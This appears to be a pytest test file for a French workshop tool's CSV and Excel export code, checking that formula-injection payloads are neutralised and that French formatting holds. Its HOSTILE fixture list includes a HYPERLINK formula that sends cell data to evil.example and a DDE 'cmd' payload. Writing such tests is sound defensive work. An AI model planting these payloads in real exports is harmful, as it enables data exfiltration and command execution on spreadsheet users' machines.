"""CSV and Excel exports: French Excel settings, French headings, no formula ever runs."""

from __future__ import annotations

import datetime as dt
import io
from zoneinfo import ZoneInfo

import numpy as np
import openpyxl
import pandas as pd
import pytest

from bacasable.reports import build_workshop_report
from bacasable.reports.exports import (
    csv_bytes,
    report_sheets,
    safe_cell,
    safe_frame,
    sheet_name,
    write_bytes,
    write_csv,
    write_report_csv,
    write_xlsx,
    xlsx_bytes,
)

PARIS = ZoneInfo("Europe/Paris")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "pseudonym": HOSTILE,
        "note": [f"note {i}: {text}" if i % 2 else text for i, text in enumerate(HOSTILE)],
        "errors": [-2, 0, 3, -7, 1, 2, 5, 8],
        "minutes": [-1.5, 0.0, 2.25, 3.0, 1.0, 0.5, 4.0, 1.5],
        "completed": [True, False] * 4,
    })


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_every_formula_start(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3, np.int32(-4), np.float32(-1.5), True, None,
                                   dt.date(2026, 11, 12), "Marie", "Jean-Luc", "a=b", "", "'x"])
def test_safe_cell_leaves_the_rest_alone(value):
    assert safe_cell(value) is value


def test_safe_frame_keeps_numbers_as_numbers():
    df = safe_frame(hostile_frame().assign(kind=pd.Categorical(["-x"] * 8)))
    assert df["errors"].dtype.kind == "i" and df["errors"].tolist()[0] == -2
    assert df["minutes"].dtype.kind == "f"
    assert all(v.startswith("'") for v in df["pseudonym"])
    assert set(df["kind"]) == {"'-x"}
    assert safe_frame(pd.DataFrame({"=evil": [1]})).columns.tolist() == ["'=evil"]


def read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig")


def test_csv_is_made_for_french_excel():
    df = pd.DataFrame({"pseudonym": ["Élodie"], "minutes": [1.5], "completed": [True],
                       "created_at": [pd.Timestamp("2026-11-12 13:05", tz="UTC")],
                       "date": [dt.date(2026, 11, 12)]})
    data = csv_bytes(df)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    text = data.decode("utf-8-sig")
    header, row, end = text.split("\r\n")
    assert end == ""
    assert header == "Pseudonyme;Durée (min);Terminé;Écrite le;Date"
    local = dt.datetime(2026, 11, 12, 13, 5, tzinfo=dt.timezone.utc).astimezone(PARIS)
    assert row == f"Élodie;1,5;Oui;{local:%d/%m/%Y %H:%M};12/11/2026"


def test_csv_round_trip_shows_neutralised_cells():
    back = read_csv(csv_bytes(hostile_frame()))
    assert list(back.columns) == ["Pseudonyme", "Note", "Erreurs", "Durée (min)", "Terminé"]
    assert back["Pseudonyme"].tolist() == ["'" + t for t in HOSTILE]
    assert all(v.startswith("'") or v.startswith("note") for v in back["Note"])
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
                   for v in back.to_numpy().ravel())
    assert back["Erreurs"].tolist() == [-2, 0, 3, -7, 1, 2, 5, 8]
    assert back["Durée (min)"].tolist() == [-1.5, 0.0, 2.25, 3.0, 1.0, 0.5, 4.0, 1.5]
    assert back["Terminé"].tolist() == ["Oui", "Non"] * 4


def test_csv_without_french_headings_and_categorical_hostile_values():
    df = pd.DataFrame({"pseudonym": pd.Categorical(["@x", "ok"]), "count": [1, 2]})
    back = read_csv(csv_bytes(df, french=False))
    assert list(back.columns) == ["pseudonym", "count"]
    assert back["pseudonym"].tolist() == ["'@x", "ok"]


def load_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_round_trip_shows_neutralised_cells_and_numbers():
    data = xlsx_bytes({"Présence": hostile_frame(), "Observations": hostile_frame().head(2)})
    book = load_xlsx(data)
    assert book.sheetnames == ["Présence", "Observations"]
    sheet = book["Présence"]
    header = [c.value for c in sheet[1]]
    assert header == ["Pseudonyme", "Note", "Erreurs", "Durée (min)", "Terminé"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    # Text cells hold exactly the text (no apostrophe: no formula can start in a text cell);
    # XML turns a carriage return into a line feed.
    expected = [t.replace("\r", "\n") for t in HOSTILE]
    assert all(c.data_type == "s" for c in sheet["A"][1:])
    assert [c.value for c in sheet["A"][1:]] == expected
    assert [c.value for c in sheet["C"][1:]] == [-2, 0, 3, -7, 1, 2, 5, 8]
    assert all(c.data_type == "n" for c in sheet["C"][1:])
    assert sheet["D"][1].value == -1.5
    assert [c.value for c in sheet["E"][1:3]] == ["Oui", "Non"]
    # pandas reads the same thing back
    back = pd.read_excel(io.BytesIO(data), sheet_name="Présence")
    assert back["Pseudonyme"].tolist() == expected
    assert back["Erreurs"].tolist() == [-2, 0, 3, -7, 1, 2, 5, 8]


def test_xlsx_drops_the_control_characters_excel_refuses():
    df = pd.DataFrame({"note": ["a\x00b\x07c\x1bd", "\x0b=1+1"]})
    sheet = load_xlsx(xlsx_bytes({"Observations": df})).active
    assert [sheet["A2"].value, sheet["A3"].value] == ["abcd", "=1+1"]
    assert sheet["A3"].data_type == "s"


def test_xlsx_dates_widths_and_missing_values():
    df = pd.DataFrame({
        "pseudonym": ["Marie", None],
        "note": ["x" * 200, "court"],
        "created_at": [pd.Timestamp("2026-11-12 13:05", tz="UTC"), pd.NaT],
        "date": [dt.date(2026, 11, 12), None],
        "errors": pd.array([1, None], dtype="Int64"),
    })
    sheet = load_xlsx(xlsx_bytes({"Observations": df})).active
    assert sheet["A3"].value is None and sheet["E3"].value is None
    assert sheet["C2"].is_date and sheet["C2"].number_format == "DD/MM/YYYY HH:MM"
    expected = dt.datetime(2026, 11, 12, 13, 5, tzinfo=dt.timezone.utc).astimezone(PARIS)
    assert sheet["C2"].value == expected.replace(tzinfo=None)
    assert sheet["D2"].value == dt.datetime(2026, 11, 12)
    assert sheet["D2"].number_format == "DD/MM/YYYY"
    assert sheet.column_dimensions["B"].width == 60  # capped
    assert sheet.column_dimensions["A"].width >= len("Pseudonyme")
    assert sheet["E2"].value == 1


def test_sheet_names_are_valid_and_unique():
    taken: set[str] = set()
    assert sheet_name("Erreurs : écran/champ ?", taken) == "Erreurs - écran-champ -"
    assert sheet_name("x" * 40, taken) == "x" * 31
    assert sheet_name("X" * 40, taken) == "X" * 27 + " (2)"
    assert len(taken) == 3
    book = load_xlsx(xlsx_bytes({"Présence": pd.DataFrame(), "présence": pd.DataFrame()}))
    assert book.sheetnames == ["Présence", "présence (2)"]


def test_writes_go_through_a_temporary_file(tmp_path):
    target = tmp_path / "sous-dossier" / "presence.csv"
    assert write_csv(hostile_frame(), target) == target
    assert read_csv(target.read_bytes())["Pseudonyme"].iloc[0].startswith("'=")
    write_xlsx({"Présence": hostile_frame()}, tmp_path / "bilan.xlsx")
    assert load_xlsx((tmp_path / "bilan.xlsx").read_bytes()).sheetnames == ["Présence"]
    write_bytes(target, b"new")
    assert target.read_bytes() == b"new"
    assert sorted(p.name for p in target.parent.iterdir()) == ["presence.csv"]


def test_a_failed_write_leaves_no_temporary_file(tmp_path, monkeypatch):
    import os

    def broken(src, dst):
        raise OSError("disque plein")

    monkeypatch.setattr(os, "replace", broken)
    with pytest.raises(OSError):
        write_bytes(tmp_path / "x.csv", b"data")
    assert list(tmp_path.iterdir()) == []


# --- the synthetic workshop, end to end ---------------------------------------------------------


@pytest.fixture
def report(synthetic_workshop):
    sw = synthetic_workshop
    person = sw.store.join(sw.second_workshop_id, "-moi")  # a pseudonym may start with "-"
    sw.store.record_observation(person["id"], "seul", "@SUM(1) +cmd|' /C calc'!A0")
    return build_workshop_report(sw.store, sw.workshop_id, sw.catalogue), \
        build_workshop_report(sw.store, sw.second_workshop_id, sw.catalogue)


def test_report_tables_as_csv_files_with_known_numbers(report, tmp_path):
    first, _second = report
    paths = write_report_csv(first, tmp_path / "csv")
    assert [p.name for p in paths] == [
        "presence.csv", "parcours.csv", "ecran-par-ecran.csv", "erreurs.csv",
        "temps-par-ecran.csv", "observations.csv", "quiz.csv", "diagnostic.csv",
        "niveaux-conseilles.csv"]
    runs = read_csv((tmp_path / "csv" / "parcours.csv").read_bytes())
    assert runs.columns[:3].tolist() == ["Pseudonyme", "Code de l'exercice", "Exercice"]
    assert runs["Durée (min)"].tolist() == [6.5, 4.8, 5.3, 6.1]
    assert runs["Terminé"].tolist() == ["Oui", "Non", "Oui", "Oui"]
    assert runs["Erreurs"].tolist() == [1, 2, 0, 1]
    presence = read_csv((tmp_path / "csv" / "presence.csv").read_bytes())
    assert presence["Arrivée"].tolist()[0] == "12/11/2026 10:00"
    notes = read_csv((tmp_path / "csv" / "observations.csv").read_bytes())
    assert notes["Note"].tolist()[2] == "'=SOMME(A1:A2) Besoin d'aide pour le loyer."
    funnel = read_csv((tmp_path / "csv" / "ecran-par-ecran.csv").read_bytes())
    row = funnel[funnel["Code de l'écran"] == "logement"].iloc[0]
    assert (row["Arrivés"], row["Validés"], row["Arrêtés ici"]) == (3, 2, 1)


def test_report_workbook_with_hostile_learner(report):
    first, second = report
    sheets = report_sheets(second)
    assert list(sheets) == ["Présence", "Parcours", "Écran par écran", "Erreurs fréquentes",
                            "Temps par écran", "Observations", "Quiz", "Par où commencer",
                            "Niveaux conseillés"]
    book = load_xlsx(xlsx_bytes(sheets))
    presence = book["Présence"]
    assert [c.value for c in presence["A"]] == ["Pseudonyme", "chloe", "Farid", "-moi"]
    notes = book["Observations"]
    assert notes["D2"].value == "@SUM(1) +cmd|' /C calc'!A0" and notes["D2"].data_type == "s"
    assert not [c for row in notes.iter_rows() for c in row if c.data_type == "f"]
    assert load_xlsx(xlsx_bytes(report_sheets(first)))["Parcours"]["J2"].value == 1
